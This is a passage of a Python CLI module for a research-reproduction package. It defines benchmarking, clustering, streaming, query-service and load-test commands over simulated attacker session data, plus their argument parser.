    if overhead > telemetry_bar_pct:
        violations.append(
            f"telemetry overhead {overhead:.2f}% exceeds the "
            f"{telemetry_bar_pct:.2f}% bar"
        )
    sketch = report.get("sketch")
    if sketch:
        speedup = sketch.get("speedup", 0.0)
        if speedup < sketch_speedup_floor:
            violations.append(
                f"sketch speedup {speedup:.2f}x at "
                f"{sketch.get('distinct_sequences')} distinct sequences "
                f"is below the {sketch_speedup_floor:.2f}x floor"
            )
        ratio = sketch.get("candidate_ratio", 0.0)
        if ratio >= sketch_ratio_bar:
            violations.append(
                f"sketch candidate ratio {ratio:.4f} is not below the "
                f"{sketch_ratio_bar:.2f} bar"
            )
        recall = sketch.get("close_pair_recall", 1.0)
        if recall < sketch_recall_floor:
            violations.append(
                f"sketch close-pair recall {recall:.4f} is below the "
                f"{sketch_recall_floor:.2f} floor"
            )
    service = report.get("service")
    if service:
        ratio = service.get("repeated", {}).get("cache_hit_ratio", 1.0)
        if ratio < service_cache_floor:
            violations.append(
                f"service cache hit ratio {ratio:.4f} on repeated-query "
                f"load is below the {service_cache_floor:.2f} floor"
            )
        for scenario in ("repeated", "breaker_open"):
            unserved = service.get(scenario, {}).get("unserved", 0)
            if unserved:
                violations.append(
                    f"service scenario {scenario!r} left {unserved} "
                    "requests unserved (outside the ok/rejected/stale "
                    "contract)"
                )
    return violations


def _sketch_bench(args, config, best_of) -> dict:
    """The sketch-prefilter bench block (see ``repro bench --help``).

    Builds the LSH-pruned matrix over ``--sketch-sample`` distinct
    synthetic sequences (the floor-forced pruned regime — at this size
    the full exact build would dominate the bench, which is the point),
    then *extrapolates* the exact build time from a seeded sample of
    pairs timed through the same ``pair_distance``.  Recall is measured
    on the sampled pairs: of those whose exact distance is ≤ the close
    threshold, how many did the prefilter keep.
    """
    import random
    import time

    from repro.analysis.distance import clear_distance_caches, pair_distance
    from repro.analysis.sketch import (
        SketchConfig,
        clear_sketch_caches,
        sketch_distance_matrix,
        synthetic_token_corpus,
    )

    n = args.sketch_sample
    close_threshold = 0.3
    pair_sample_target = 30_000
    corpus = synthetic_token_corpus(n, seed=config.seed)
    keys = [tuple(sequence) for sequence in corpus]
    sketch_config = SketchConfig(min_sequences=0)

    def build():
        clear_distance_caches()
        clear_sketch_caches()
        return sketch_distance_matrix(corpus, sketch_config)

    approx, sketch_s = best_of(build, args.repeat)
    total_pairs = n * (n - 1) // 2

    rng = random.Random(config.seed)
    sample = sorted(
        {
            (min(i, j), max(i, j))
            for i, j in (
                (rng.randrange(n), rng.randrange(n))
                for _ in range(pair_sample_target)
            )
            if i != j
        }
    )
    clear_distance_caches()
    started = time.perf_counter()
    exact_values = [pair_distance(keys[i], keys[j]) for i, j in sample]
    sample_s = time.perf_counter() - started
    per_pair_s = sample_s / len(sample)
    exact_estimated_s = per_pair_s * total_pairs

    close = [
        (i, j)
        for (i, j), value in zip(sample, exact_values)
        if value <= close_threshold
    ]
    kept = sum(1 for i, j in close if not approx.pruned[i, j])
    recall = kept / len(close) if close else 1.0

    return {
        "distinct_sequences": n,
        "pairs": total_pairs,
        "num_perm": sketch_config.num_perm,
        "bands": sketch_config.bands,
        "shingle_size": sketch_config.shingle_size,
        "candidate_pairs": approx.candidate_pairs,
        "pruned_pairs": approx.pruned_pairs,
        "candidate_ratio": round(approx.candidate_ratio, 4),
        "sketch_s": round(sketch_s, 4),
        "sampled_pairs": len(sample),
        "exact_estimated_s": round(exact_estimated_s, 4),
        "speedup": round(exact_estimated_s / sketch_s, 3),
        "close_threshold": close_threshold,
        "close_pairs_sampled": len(close),
        "close_pair_recall": round(recall, 4),
    }


def _service_bench(serial_result, config) -> dict:
    """The query-service bench block (see ``repro bench --help``).

    Exports the serial run to a temporary indexed store and drives two
    seeded load scenarios against a store-backed service: repeated-query
    load (throughput + cache hit ratio — the read-through LRU's floor)
    and the breaker-open profile (stale-serve rate while the service↔
    store breaker degrades to the last-good snapshot).  Both scenarios
    record ``unserved``, which must be 0: every request resolves inside
    the ok/rejected/stale contract.
    """
    import tempfile
    import time

    from repro.attackers.orchestrator import _export_store
    from repro.faults.service import ServiceFaults
    from repro.service import (
        QueryService,
        ServiceLoadModel,
        run_load_test,
    )
    from repro.store import SqliteStore, index_path_for

    def scenario(index, profile, **model_kwargs):
        store = SqliteStore.open(index, read_only=True)
        try:
            service = QueryService(store=store, seed=config.seed)
            model = ServiceLoadModel(
                seed=config.seed,
                faults=ServiceFaults.from_name(profile),
                **model_kwargs,
            )
            started = time.perf_counter()
            report = run_load_test(service, model)
            wall_s = time.perf_counter() - started
            return report, wall_s, service
        finally:
            store.close()

    with tempfile.TemporaryDirectory(prefix="repro-bench-service-") as tmp:
        store_dir = Path(tmp)
        _export_store(serial_result, store_dir)
        index = index_path_for(store_dir)
        repeated, repeated_s, _ = scenario(
            index, "off", ticks=20, requests_per_tick=32
        )
        breaker, breaker_s, service = scenario(
            index, "breaker", ticks=20, requests_per_tick=8
        )
    return {
        "snapshot_sessions": len(serial_result.database),
        "repeated": {
            "requests": repeated.total,
            "wall_s": round(repeated_s, 4),
            "requests_per_s": round(repeated.total / repeated_s, 1),
            "cache_hit_ratio": round(repeated.cache_hit_ratio, 4),
            "ok": repeated.ok,
            "rejected": sum(repeated.rejected.values()),
            "unserved": repeated.unserved,
        },
        "breaker_open": {
            "requests": breaker.total,
            "wall_s": round(breaker_s, 4),
            "stale_served": breaker.stale,
            "stale_rate": round(breaker.stale_rate, 4),
            "breaker_trips": service.breaker.trips,
            "unserved": breaker.unserved,
        },
    }


def cmd_bench(args: argparse.Namespace) -> int:
    """Time serial vs N-worker execution of both parallel stages.

    Records wall-clock for the simulation day-loop and for the DLD
    distance matrix, serial vs ``--workers`` processes, and verifies
    digest/bit equality between the two runs while at it.  With
    ``--json PATH`` the numbers land in a machine-readable file.  With
    ``--enforce`` the run additionally fails on regression-floor
    violations (:func:`check_bench_floors`) — the CI smoke runs this
    so a speedup or telemetry-overhead regression breaks the build.
    """
    import json
    import os
    import time

    import numpy as np

    from repro.analysis.distance import (
        clear_distance_caches,
        distance_matrix,
        sample_sessions,
        session_tokens,
    )
    from repro.attackers.orchestrator import run_simulation

    workers = max(2, args.workers)
    config = _config(args).replace(workers=1)

    def best_of(fn, repeat):
        elapsed = []
        value = None
        for _ in range(repeat):
            started = time.perf_counter()
            value = fn()
            elapsed.append(time.perf_counter() - started)
        return value, min(elapsed)

    if args.sketch_only:
        # The cluster-differential CI smoke: only the sketch scenario,
        # with its floors enforceable, no simulation runs.
        report = {
            "workers": workers,
            "cpu_count": os.cpu_count(),
            "scale": config.scale,
            "seed": config.seed,
            "fault_profile": config.faults.name,
            "repeat": args.repeat,
            "sketch": _sketch_bench(args, config, best_of),
        }
        violations = check_bench_floors(report)
        report["enforcement"] = {
            "enforced": bool(args.enforce),
            "sketch_speedup_floor": SKETCH_SPEEDUP_FLOOR,
            "sketch_ratio_bar": SKETCH_RATIO_BAR,
            "sketch_recall_floor": SKETCH_RECALL_FLOOR,
            "violations": violations,
        }
        _print_sketch_bench(report["sketch"])
        for violation in violations:
            marker = "FAIL" if args.enforce else "warn"
            print(f"{marker}: {violation}")
        if args.json is not None:
            args.json.write_text(json.dumps(report, indent=2) + "\n")
            print(f"wrote {args.json}")
        return 1 if args.enforce and violations else 0

    # Serial runs are interleaved telemetry-off / telemetry-on so the
    # overhead comparison is robust against machine drift between
    # timing blocks (the issue's acceptance bar is < 5% on the serial
    # engine; single-shot CI timings only record the number).
    from repro import telemetry

    def run_instrumented():
        with telemetry.collecting():
            return run_simulation(config)

    serial_times: list[float] = []
    telemetry_times: list[float] = []
    for _ in range(args.repeat):
        serial_result, elapsed = best_of(lambda: run_simulation(config), 1)
        serial_times.append(elapsed)
        telemetry_result, elapsed = best_of(run_instrumented, 1)
        telemetry_times.append(elapsed)
    serial_day_s = min(serial_times)
    telemetry_day_s = min(telemetry_times)
    telemetry_match = (
        serial_result.database.digest() == telemetry_result.database.digest()
    )
    telemetry_overhead = telemetry_day_s / serial_day_s - 1.0

    parallel_result, parallel_day_s = best_of(
        lambda: run_simulation(config, workers=workers), args.repeat
    )
    digest_match = (
        serial_result.database.digest() == parallel_result.database.digest()
    )

    sessions = sample_sessions(
        serial_result.database.command_sessions(),
        args.dld_sample,
        seed=config.seed,
    )
    clear_distance_caches()
    tokens = session_tokens(sessions)
    distinct = len({tuple(sequence) for sequence in tokens})

    def timed_matrix(n_workers):
        def build():
            clear_distance_caches()
            return distance_matrix(tokens, workers=n_workers)

        return best_of(build, args.repeat)

    serial_matrix, serial_dld_s = timed_matrix(1)
    parallel_matrix, parallel_dld_s = timed_matrix(workers)
    matrix_match = bool(np.array_equal(serial_matrix, parallel_matrix))

    # Flood scenario: the same window under the burst flood preset —
    # serial vs parallel (shed-path cost relative to the quiet runs
    # above) and parallel again with the hung-worker watchdog armed, so
    # the deadline plumbing's overhead on a healthy run is on record.
    import dataclasses as _dataclasses

    flood_deadline_s = 120.0
    flood_config = config.replace(
        faults=_dataclasses.replace(
            config.faults, flood=FloodFaults.from_name("burst")
        )
    )
    flood_serial, flood_serial_s = best_of(
        lambda: run_simulation(flood_config), args.repeat
    )
    flood_parallel, flood_parallel_s = best_of(
        lambda: run_simulation(flood_config, workers=workers), args.repeat
    )
    watchdog_config = flood_config.replace(shard_deadline_s=flood_deadline_s)
    flood_watchdog, flood_watchdog_s = best_of(
        lambda: run_simulation(watchdog_config, workers=workers), args.repeat
    )
    flood_digest = flood_serial.database.digest()
    flood_match = (
        flood_digest == flood_parallel.database.digest()
        and flood_digest == flood_watchdog.database.digest()
    )
    flood_accounting = flood_serial.collector.accounting()
    flood_generated = flood_accounting["generated"]

    report = {
        "workers": workers,
        "cpu_count": os.cpu_count(),
        "scale": config.scale,
        "seed": config.seed,
        "fault_profile": config.faults.name,
        "repeat": args.repeat,
        "sessions": len(serial_result.database),
        "day_loop": {
            "serial_s": round(serial_day_s, 4),
            "parallel_s": round(parallel_day_s, 4),
            "speedup": round(serial_day_s / parallel_day_s, 3),
            "digest_match": digest_match,
        },
        "telemetry": {
            "off_s": round(serial_day_s, 4),
            "on_s": round(telemetry_day_s, 4),
            "overhead_pct": round(telemetry_overhead * 100, 2),
            "digest_match": telemetry_match,
        },
        "dld_matrix": {
            "sequences": len(tokens),
            "distinct_sequences": distinct,
            "pairs": distinct * (distinct - 1) // 2,
            "serial_s": round(serial_dld_s, 4),
            "parallel_s": round(parallel_dld_s, 4),
            "speedup": round(serial_dld_s / parallel_dld_s, 3),
            "matrix_match": matrix_match,
        },
        "flood": {
            "profile": "burst",
            "serial_s": round(flood_serial_s, 4),
            "parallel_s": round(flood_parallel_s, 4),
            "watchdog_on_s": round(flood_watchdog_s, 4),
            "watchdog_deadline_s": flood_deadline_s,
            "generated": flood_generated,
            "admitted": flood_accounting["admitted"],
            "deferred": flood_accounting["deferred"],
            "shed": flood_accounting["shed"],
            "shed_fraction": round(
                flood_accounting["shed"] / max(flood_generated, 1), 4
            ),
            "shed_path_overhead_pct": round(
                (flood_serial_s / serial_day_s - 1.0) * 100, 2
            ),
            "watchdog_overhead_pct": round(
                (flood_watchdog_s / flood_parallel_s - 1.0) * 100, 2
            ),
            "digest_match": flood_match,
        },
    }
    if args.sketch_sample > 0:
        report["sketch"] = _sketch_bench(args, config, best_of)
    report["service"] = _service_bench(serial_result, config)
    violations = check_bench_floors(
        report,
        speedup_floor=args.speedup_floor,
        telemetry_bar_pct=args.telemetry_bar,
    )
    report["enforcement"] = {
        "enforced": bool(args.enforce),
        "speedup_floor": args.speedup_floor,
        "speedup_floor_applies": (report["cpu_count"] or 1) >= 2,
        "telemetry_bar_pct": args.telemetry_bar,
        "sketch_speedup_floor": SKETCH_SPEEDUP_FLOOR,
        "sketch_ratio_bar": SKETCH_RATIO_BAR,
        "sketch_recall_floor": SKETCH_RECALL_FLOOR,
        "service_cache_floor": SERVICE_CACHE_FLOOR,
        "violations": violations,
    }
    print(f"== bench: serial vs {workers} workers ==")
    print(
        f"day-loop:   {serial_day_s:.3f}s -> {parallel_day_s:.3f}s "
        f"({report['day_loop']['speedup']:.2f}x, digest match: {digest_match})"
    )
    print(
        f"DLD matrix: {serial_dld_s:.3f}s -> {parallel_dld_s:.3f}s "
        f"({report['dld_matrix']['speedup']:.2f}x, "
        f"{report['dld_matrix']['pairs']} pairs, "
        f"bit-identical: {matrix_match})"
    )
    print(
        f"telemetry:  {serial_day_s:.3f}s -> {telemetry_day_s:.3f}s "
        f"({telemetry_overhead:+.1%} overhead, "
        f"digest match: {telemetry_match})"
    )
    print(
        f"flood:      {flood_serial_s:.3f}s serial, "
        f"{flood_parallel_s:.3f}s parallel, "
        f"{flood_watchdog_s:.3f}s watchdog-on "
        f"({flood_accounting['shed']} shed of {flood_generated}, "
        f"digest match: {flood_match})"
    )
    if "sketch" in report:
        _print_sketch_bench(report["sketch"])
    service = report["service"]
    print(
        f"service:    {service['repeated']['requests_per_s']:.0f} req/s on "
        f"repeated-query load (cache hit ratio "
        f"{service['repeated']['cache_hit_ratio']:.3f}); breaker-open: "
        f"{service['breaker_open']['stale_served']} stale-served, "
        f"{service['breaker_open']['unserved']} unserved"
    )
    for violation in violations:
        marker = "FAIL" if args.enforce else "warn"
        print(f"{marker}: {violation}")
    if args.json is not None:
        args.json.write_text(json.dumps(report, indent=2) + "\n")
        print(f"wrote {args.json}")
    healthy = digest_match and matrix_match and telemetry_match and flood_match
    if args.enforce and violations:
        return 1
    return 0 if healthy else 1


def _print_sketch_bench(sketch: dict) -> None:
    print(
        f"sketch:     {sketch['sketch_s']:.3f}s pruned vs "
        f"{sketch['exact_estimated_s']:.3f}s exact (extrapolated from "
        f"{sketch['sampled_pairs']} sampled pairs) = "
        f"{sketch['speedup']:.2f}x at {sketch['distinct_sequences']} "
        f"distinct; candidate ratio {sketch['candidate_ratio']:.4f}, "
        f"close-pair recall {sketch['close_pair_recall']:.4f} "
        f"(d <= {sketch['close_threshold']})"
    )


def cmd_cluster(args: argparse.Namespace) -> int:
    """Run the clustering stage on its own, exact or LSH-pruned.

    ``--mode lsh`` routes the distance matrix through the MinHash/LSH
    prefilter (identical results below the sketch activation floor —
    which the default sample limit always is; see docs/clustering.md).
    ``--online`` additionally replays the same token stream through the
    incremental assign-or-spawn clusterer and reports its pair
    agreement (Rand index) with the batch labels.
    ``--report-agreement`` trains the TF-IDF->LogReg fast-path
    classifier against the 59 regex rules and prints the agreement
    report.
    """
    import json

    from repro.experiments.dataset import CLUSTER_SAMPLE_LIMIT, build_dataset
    from repro.util.text import format_table

    dataset = build_dataset(_config(args))
    sample_limit = (
        args.sample_limit
        if args.sample_limit is not None
        else CLUSTER_SAMPLE_LIMIT
    )
    clustering = dataset.clustering(sample_limit=sample_limit, mode=args.mode)
    distinct = len({tuple(t) for t in clustering.tokens})
    out: dict = {
        "mode": clustering.mode,
        "sessions": len(clustering.sessions),
        "distinct_sequences": distinct,
        "chosen_k": clustering.selection.chosen_k,
        "clusters": [
            {
                "rank": profile.rank,
                "sessions": len(profile.sessions),
                "avg_tokens": round(profile.avg_tokens, 1),
                "families": profile.families,
            }
            for profile in clustering.profiles
        ],
    }
    print(
        f"== cluster: mode={clustering.mode}, "
        f"{len(clustering.sessions)} sessions "
        f"({distinct} distinct), k={clustering.selection.chosen_k} =="
    )
    rows = [
        [
            profile.rank,
            len(profile.sessions),
            f"{profile.avg_tokens:.1f}",
            ", ".join(profile.families) or "-",
        ]
        for profile in clustering.profiles[:12]
    ]
    print(format_table(["rank", "sessions", "avg tokens", "families"], rows))
    approx = clustering.approx
    if approx is not None:
        out["sketch"] = {
            "candidate_pairs": approx.candidate_pairs,
            "pinned_pairs": approx.pinned_pairs,
            "pruned_pairs": approx.pruned_pairs,
            "candidate_ratio": round(approx.candidate_ratio, 4),
            "exact": approx.exact,
        }
        print(
            f"sketch: {approx.candidate_pairs} candidate + "
            f"{approx.pinned_pairs} pinned + {approx.pruned_pairs} pruned "
            f"pairs (ratio {approx.candidate_ratio:.4f}, "
            f"exact={approx.exact})"
        )

    if args.online:
        from repro.analysis.online import OnlineClusterer, pair_agreement

        clusterer = OnlineClusterer()
        online_labels = clusterer.replay(clustering.tokens)
        agreement = pair_agreement(online_labels, clustering.result.labels)
        out["online"] = {
            "clusters": len(clusterer.clusters),
            "batch_k": clustering.result.k,
            "pair_agreement": round(agreement, 4),
        }
        print(
            f"online replay: {len(clusterer.clusters)} clusters vs "
            f"batch k={clustering.result.k}, pair agreement "
            f"(Rand) {agreement:.4f}"
        )

    if args.report_agreement:
        from repro.analysis.fastpath import FastPathClassifier, agreement_report

        sessions = dataset.database.command_sessions()
        fastpath = FastPathClassifier.train(sessions)
        report = agreement_report(fastpath, sessions)
        out["fastpath"] = {
            "total": report.total,
            "agreeing": report.agreeing,
            "agreement": round(report.agreement, 4),
            "disagreements": len(report.disagreements),
        }
        print(report.render())

    if args.json is not None:
        args.json.write_text(json.dumps(out, indent=2) + "\n")
        print(f"wrote {args.json}")
    return 0


def cmd_stream(args: argparse.Namespace) -> int:
    """Run the supervised stream engine and print its supervision report.

    ``--stream-profile`` picks the :class:`~repro.stream.StreamPolicy`
    preset: ``live`` (supervised, fault-free — byte-identical to
    batch), ``chaos`` (elevated seeded stream faults), or ``replay``
    (supervision bypassed; exactly the batch serial engine).  The
    checkpoint flags mirror ``repro faults``; a checkpoint carrying a
    degraded supervision section resumes seamlessly here, where the
    batch engines would refuse it.
    """
    import dataclasses
    from datetime import date as _date

    from repro.attackers.orchestrator import run_simulation
    from repro.stream import StreamPolicy, run_stream
    from repro.util.text import format_table

    config = _config(args)
    policy = StreamPolicy.from_name(args.stream_profile)
    if args.online and policy.supervised:
        policy = dataclasses.replace(policy, online_clustering=True)
    result = run_stream(
        config,
        policy=policy,
        checkpoint_path=args.checkpoint,
        checkpoint_every_days=args.checkpoint_every,
        resume=args.resume,
        stop_after=args.stop_after,
    )
    digest = result.database.digest()
    print(f"== stream: profile={args.stream_profile} ==")
    report = result.stream
    if report is None:
        print("supervision bypassed (replay profile = the batch engine)")
    else:
        print(
            f"mode: {report.mode}, {report.days} days, "
            f"{report.events} events, coverage {report.coverage_rate:.2%}"
        )
        verdict = report.ledger_verdict or {}
        print(
            f"ledger: {verdict.get('days', 0)} day boundaries audited, "
            f"balanced: {verdict.get('balanced', True)}, "
            f"last day: {verdict.get('last_day')}"
        )
        print(
            f"queue: peak depth {report.queue_peak_depth}, "
            f"{report.forced_drains} forced drains, {report.stalls} stalls"
        )
        print(
            f"partitions: {report.partition_buffered} buffered, "
            f"{report.partition_replayed} replayed; "
            f"skewed days: {report.skew_days}"
        )
        print(
            f"analysis: {report.analysis_observed} observed, "
            f"{report.analysis_deferred} deferred, "
            f"{report.analysis_errors} errors"
        )
        print(
            f"heartbeats: {report.heartbeat_soft_breaches} soft, "
            f"{report.heartbeat_hard_breaches} hard breaches"
        )
        if report.online_clusters is not None:
            print(f"online clusters: {report.online_clusters}")
        if report.transitions:
            print()
            print("== degraded-mode timeline ==")
            rows = [
                [
                    _date.fromordinal(t.day).isoformat(),
                    t.event,
                    f"{t.from_mode} -> {t.to_mode}",
                    t.reason,
                ]
                for t in report.transitions
            ]
            print(
                format_table(["day", "event", "transition", "reason"], rows)
            )
        breaker_total = sum(
            len(transitions)
            for transitions in report.breaker_transitions.values()
        )
        if breaker_total:
            print(
                "breaker transitions: "
                + ", ".join(
                    f"{stage}={len(transitions)}"
                    for stage, transitions in sorted(
                        report.breaker_transitions.items()
                    )
                )
            )
    print()
    print(f"dataset digest: {digest}")
    if args.verify_replay:
        batch = run_simulation(config)
        match = (
            digest == batch.database.digest()
            and result.collector.accounting() == batch.collector.accounting()
        )
        print(f"replay-vs-batch: digest+accounting match: {match}")
        if not match:
            if (
                policy.supervised
                and not policy.faults.inert
                and not config.faults.flood.inert
            ):
                # Stream faults delay arrivals; with an admission gate
                # attached, delay changes which records hit the day's
                # budget — a deterministic divergence, not a bug (see
                # docs/streaming.md).  Still exit 1: the operator asked
                # for a byte-identity check that does not hold here.
                print(
                    "note: chaos stream faults + an admission gate "
                    "legitimately reorder admission; byte-identity is "
                    "only promised for fault-free profiles"
                )
            return 1
    return 0


def cmd_serve(args: argparse.Namespace) -> int:
    """Serve an indexed artifact tree over the JSON-lines TCP frontend.

    The service answers against a version-1 snapshot of the store plus
    filtered store queries, behind the full overload ladder (token
    buckets, bounded queue, deadlines, the service↔store breaker).  One
    JSON object per line in, one contractual response per line out —
    see docs/service.md for the endpoint shapes.
    """
    from repro.service import QueryService, ServicePolicy, serve
    from repro.store import SqliteStore, index_path_for

    store = SqliteStore.open(index_path_for(args.path), read_only=True)
    try:
        service = QueryService(
            store=store,
            policy=ServicePolicy.from_name(args.service_policy),
        )
        snapshot = service.current_snapshot()

        def ready(frontend):
            # Printed once the socket is bound, so --port 0 reports the
            # resolved port.
            print(
                f"serving {snapshot.sessions} sessions "
                f"(snapshot v{snapshot.version}, "
                f"digest {snapshot.content_digest[:12]}...) "
                f"on {args.host}:{frontend.port}",
                flush=True,
            )

        try:
            frontend = serve(
                service,
                host=args.host,
                port=args.port,
                max_requests=args.max_requests,
                ready=ready,
            )
        except KeyboardInterrupt:
            print("interrupted")
            return 0
        print(f"served {frontend.handled} requests")
    finally:
        store.close()
    return 0


def cmd_loadtest(args: argparse.Namespace) -> int:
    """Run the seeded service load model and print its outcome ledger.

    Simulates the configured window, exports it to a temporary indexed
    store, then drives the ``--service-profile`` fault preset against a
    store-backed service — entirely in memory, no sockets.  The run is
    a pure function of ``(seed, config, policy)``: the test replays the
    whole load and checks the two ledger digests are identical.  With
    ``--enforce`` the command fails on contract violations (any
    unserved request, a non-deterministic replay) — the CI service
    smoke runs this under the thundering-herd profile.
    """
    import json as json_module
    import tempfile
    import time

    from repro.attackers.orchestrator import run_simulation
    from repro.faults.service import ServiceFaults
    from repro.service import (
        QueryService,
        ServiceLoadModel,
        ServicePolicy,
        run_load_test,
    )
    from repro.store import SqliteStore, index_path_for

    config = _config(args)
    if args.days is not None:
        from datetime import timedelta

        config = config.replace(
            end=min(config.end, config.start + timedelta(days=args.days - 1))
        )
    faults = ServiceFaults.from_name(args.service_profile)
    policy = ServicePolicy.from_name(args.service_policy)

    with tempfile.TemporaryDirectory(prefix="repro-loadtest-") as tmp:
        store_dir = Path(tmp)
        run_simulation(config, store_dir=store_dir)
        index = index_path_for(store_dir)

        def one_run():
            store = SqliteStore.open(index, read_only=True)
            try:
                service = QueryService(
                    store=store, policy=policy, seed=config.seed
                )
                model = ServiceLoadModel(
                    seed=config.seed,
                    clients=args.clients,
                    ticks=args.ticks,
                    requests_per_tick=args.requests_per_tick,
                    faults=faults,
                )
                started = time.perf_counter()
                report = run_load_test(service, model)
                wall_s = time.perf_counter() - started
                return report, wall_s, service
            finally:
                store.close()

        report, wall_s, service = one_run()
        replay, _, _ = one_run()

    identical = report.digest() == replay.digest()
    document = report.as_dict()
    document["profile"] = args.service_profile
    document["policy_name"] = args.service_policy
    document["wall_s"] = round(wall_s, 4)
    document["requests_per_s"] = (
        round(report.total / wall_s, 1) if wall_s else None
    )
    document["replay_identical"] = identical
    document["breaker_trips"] = service.breaker.trips

    print(
        f"== loadtest: profile={args.service_profile} "
        f"policy={args.service_policy} =="
    )
    print(
        f"requests: {report.total} -> {report.ok} ok, "
        f"{report.stale} stale, {sum(report.rejected.values())} rejected, "
        f"{report.unserved} unserved "
        f"({document['requests_per_s']} req/s)"
    )
    if report.rejected:
        print(
            "rejections: "
            + ", ".join(
                f"{reason}={count}"
                for reason, count in sorted(report.rejected.items())
            )
        )
    print(
        f"cache hit ratio: {report.cache_hit_ratio:.3f}; "
        f"stale rate: {report.stale_rate:.3f}; "
        f"breaker trips: {service.breaker.trips}"
    )
    print(f"ledger digest: {report.digest()}")
    print(f"replay identical: {identical}")

    violations: list[str] = []
    if report.unserved:
        violations.append(
            f"{report.unserved} requests left unserved (outside the "
            "ok/rejected/stale contract)"
        )
    if not identical:
        violations.append(
            "replaying the same (seed, config, policy) produced a "
            "different request-outcome ledger"
        )
    for violation in violations:
        marker = "FAIL" if args.enforce else "warn"
        print(f"{marker}: {violation}")
    if args.json is not None:
        args.json.write_text(json_module.dumps(document, indent=2) + "\n")
        print(f"wrote {args.json}")
    return 1 if args.enforce and violations else 0


def cmd_report(args: argparse.Namespace) -> int:
    from repro.experiments.runner import run_all
    from repro.reporting.markdown import experiments_markdown

    config = _config(args)
    results = run_all(config=config)
    args.out.write_text(experiments_markdown(results, config))
    print(f"wrote {args.out} ({len(results)} experiments)")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="repro", description=__doc__)
    commands = parser.add_subparsers(dest="command", required=True)

    stats = commands.add_parser("stats", help="dataset statistics")
    _add_common(stats)
    stats.set_defaults(func=cmd_stats)

    experiments = commands.add_parser(
        "experiments", help="run experiments and print text reports"
    )
    _add_common(experiments)
    experiments.add_argument("--only", nargs="*", default=None)
    experiments.add_argument(
        "--charts", action="store_true", help="append text charts"
    )
    experiments.set_defaults(func=cmd_experiments)

    export = commands.add_parser(
        "export", help="write experiment data as JSON or CSV"
    )
    _add_common(export)
    export.add_argument("--only", nargs="*", default=None)
    export.add_argument(
        "--format", choices=("json", "csv", "svg"), default="json"
    )
    export.add_argument("--out", type=Path, default=Path("figures"))
    export.set_defaults(func=cmd_export)

    report = commands.add_parser(
        "report", help="regenerate EXPERIMENTS.md"
    )
    report.add_argument("--scale", type=float, default=BENCH_CONFIG.scale)
    report.add_argument("--seed", type=int, default=BENCH_CONFIG.seed)
    report.add_argument(
        "--workers", type=int, default=DEFAULT_CONFIG.workers,
        help="worker processes for the parallel engine (1 = serial)",
    )
    report.add_argument("--out", type=Path, default=Path("EXPERIMENTS.md"))
    report.add_argument(
        "--telemetry", type=Path, nargs="?", const=Path("telemetry.json"),
        default=None, metavar="PATH",
        help="collect run telemetry and write it as JSON",
    )
    report.set_defaults(func=cmd_report)

    telemetry = commands.add_parser(
        "telemetry",
        help="run the pipeline instrumented and print the telemetry report",
    )
    _add_common(telemetry)
    telemetry.add_argument(
        "--json", type=Path, default=None, metavar="PATH",
        help="also write the telemetry document as JSON",
    )
    telemetry.add_argument(
        "--profile", action="store_true",
        help="capture cProfile output around the simulate/clustering stages",
    )
    telemetry.add_argument(
        "--experiments", action="store_true",
        help="also run every experiment (spans per experiment id)",
    )
    telemetry.set_defaults(func=cmd_telemetry)

    bench = commands.add_parser(
        "bench",
        help="time serial vs parallel engines (day-loop + DLD matrix)",
    )
    _add_common(bench)
    bench.add_argument(
        "--json", type=Path, default=None, metavar="PATH",
        help="write the timing report as JSON (e.g. BENCH_parallel.json)",
    )
    bench.add_argument(
        "--repeat", type=int, default=1,
        help="iterations per timing (best-of; CI smoke uses 1)",
    )
    bench.add_argument(
        "--dld-sample", type=int, default=400, metavar="N",
        help="command sessions sampled for the DLD matrix timing",
    )
    bench.add_argument(
        "--enforce", action="store_true",
        help="fail (exit 1) on regression-floor violations",
    )
    bench.add_argument(
        "--speedup-floor", type=float, default=SPEEDUP_FLOOR, metavar="X",
        help="minimum day-loop speedup at --workers (multi-core only; "
        f"default {SPEEDUP_FLOOR})",
    )
    bench.add_argument(
        "--telemetry-bar", type=float, default=TELEMETRY_BAR_PCT,
        metavar="PCT",
        help="maximum telemetry overhead percentage "
        f"(default {TELEMETRY_BAR_PCT})",
    )
    bench.add_argument(
        "--sketch-sample", type=int, default=2000, metavar="N",
        help="distinct synthetic sequences for the LSH-prefilter "
        "scenario (0 disables it; default 2000)",
    )
    bench.add_argument(
        "--sketch-only", action="store_true",
        help="run only the sketch-prefilter scenario (the "
        "cluster-differential CI smoke)",
    )
    bench.set_defaults(func=cmd_bench)

    cluster = commands.add_parser(
        "cluster",
        help="run the clustering stage (exact or LSH-pruned), optionally "
        "with the online clusterer and the fast-path agreement report",
    )
    _add_common(cluster)
    cluster.add_argument(
        "--mode", choices=("exact", "lsh"), default="exact",
        help="distance pipeline: every pair (exact) or MinHash/LSH "
        "candidate pruning (lsh; see docs/clustering.md)",
    )
    cluster.add_argument(
        "--sample-limit", type=int, default=None, metavar="N",
        help="max sessions fed to the clustering stage "
        "(default: the pipeline's CLUSTER_SAMPLE_LIMIT)",
    )
    cluster.add_argument(
        "--online", action="store_true",
        help="also replay the sample through the incremental "
        "assign-or-spawn clusterer and report batch agreement",
    )
    cluster.add_argument(
        "--report-agreement", action="store_true",
        help="train the TF-IDF->LogReg fast path against the regex "
        "rules and print the agreement report",
    )
    cluster.add_argument(
        "--json", type=Path, default=None, metavar="PATH",
        help="write the cluster/agreement summary as JSON",
    )
    cluster.set_defaults(func=cmd_cluster)

    faults = commands.add_parser(
        "faults",
        help="simulate under a fault profile and print the resilience report",
    )
    _add_common(faults)
    faults.add_argument(
        "--checkpoint", type=Path, default=None,
        help="checkpoint file to write (and resume from)",
    )
    faults.add_argument(
        "--checkpoint-every", type=int, default=None, metavar="DAYS",
        help="checkpoint cadence in simulated days (default 30)",
    )
    faults.add_argument(
        "--resume", action="store_true",
        help="resume from --checkpoint if it exists",
    )
    faults.add_argument(
        "--stop-after", type=date.fromisoformat, default=None, metavar="DATE",
        help="controlled stop after this simulated day (YYYY-MM-DD)",
    )
    faults.add_argument(
        "--export", type=Path, default=None, metavar="PATH",
        help="write the resulting dataset as JSONL (+ sidecar manifest); "
        "corruption faults from the active profile apply to the export",
    )
    faults.add_argument(
        "--index", action="store_true",
        help="with --export: also build index.sqlite next to the export "
        "(the active profile's index-corruption faults apply to it)",
    )
    from repro.faults.corruption import INDEX_CORRUPTION_MODES

    faults.add_argument(
        "--corrupt-index", choices=INDEX_CORRUPTION_MODES, default=None,
        metavar="MODE",
